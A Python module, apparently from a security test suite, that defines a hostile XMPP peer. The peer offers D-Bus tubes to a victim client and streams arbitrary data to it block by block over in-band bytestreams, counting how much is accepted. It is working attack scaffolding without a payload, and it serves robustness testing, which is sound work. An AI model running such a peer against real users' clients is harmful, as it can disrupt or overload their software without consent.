"""A contact in plaintext that offers D-Bus tubes, and says in them what it likes: in-band (XEP-0047), block by
block, each answered before the next one goes.

    it ── XML stream ──► the victim     <si> ── a person accepts ──► result, <open> ──► result, <data> …
"""
import base64
import socket
import time
import xml.etree.ElementTree as ElementTree

TUBES = "http://telepathy.freedesktop.org/xmpp/tubes"
SI = "http://jabber.org/protocol/si"
IBB = "http://jabber.org/protocol/ibb"
BLOCK = 16384


class BadPeer:
    def __init__(self, own, victim, address, port):
        self.number = 0
        self.stream = socket.create_connection((address, port), 20)
        self.parser = ElementTree.XMLPullParser(["start", "end"])
        self.depth = 0
        self.say(f"<?xml version='1.0'?><stream:stream xmlns='jabber:client' from='{own}' to='{victim}' "
                 "version='1.0' xmlns:stream='http://etherx.jabber.org/streams'>")
        # Its features; we take none.
        assert self.stanza(20).tag.endswith("features")

    def say(self, text):
        self.stream.sendall(text.encode())

    def stanza(self, wait):
        """The next one; None when the time is over."""
        deadline = time.monotonic() + wait
        while True:
            for event, element in self.parser.read_events():
                self.depth += 1 if event == "start" else -1
                if event == "end" and self.depth == 1:
                    return element
            self.stream.settimeout(max(deadline - time.monotonic(), 0.001))
            try:
                part = self.stream.recv(65536)
            except socket.timeout:
                return None
            if not part:
                raise EOFError("the XML stream ended")
            self.parser.feed(part)

    def ask(self, payload, wait=20):
        """Sends a request and gives the type of what it is answered with; None when it is not."""
        self.number += 1
        name = str(self.number)
        self.say(f"<iq type='set' id='{name}'>{payload}</iq>")
        deadline = time.monotonic() + wait
        while (stanza := self.stanza(deadline - time.monotonic())) is not None:
            kind = stanza.get("type")
            if stanza.get("id") == name and kind in ("result", "error"):
                return kind
            if kind in ("get", "set"):
                self.say(f"<iq type='error' id='{stanza.get('id')}'><error type='cancel'>"
                         "<service-unavailable xmlns='urn:ietf:params:xml:ns:xmpp-stanzas'/></error></iq>")
        return None

    def offer(self, service, number):
        """Offers a tube and opens it when it is accepted."""
        self.sid, self.sequence = f"bad-{number}", 0
        agreed = self.ask(
            f"<si xmlns='{SI}' id='{self.sid}' profile='{TUBES}'>"
            "<feature xmlns='http://jabber.org/protocol/feature-neg'><x xmlns='jabber:x:data' type='form'>"
            f"<field var='stream-method' type='list-single'><option><value>{IBB}</value></option></field></x></feature>"
            f"<tube xmlns='{TUBES}' type='dbus' service='{service}' id='{number}' stream-id='{self.sid}' "
            "initiator='x'><parameters/></tube></si>", 40)
        assert agreed == "result", agreed
        opened = self.ask(f"<open xmlns='{IBB}' sid='{self.sid}' block-size='{BLOCK}' stanza='iq'/>")
        assert opened == "result", opened

    def send(self, data, wait=20):
        """Sends so many blocks; gives how many bytes were taken before one was refused or not answered."""
        for at in range(0, len(data), BLOCK):
            block = base64.b64encode(data[at:at + BLOCK]).decode()
            number = self.sequence % 65536
            if self.ask(f"<data xmlns='{IBB}' sid='{self.sid}' seq='{number}'>{block}</data>", wait) != "result":
                return at
            self.sequence += 1
        return len(data)
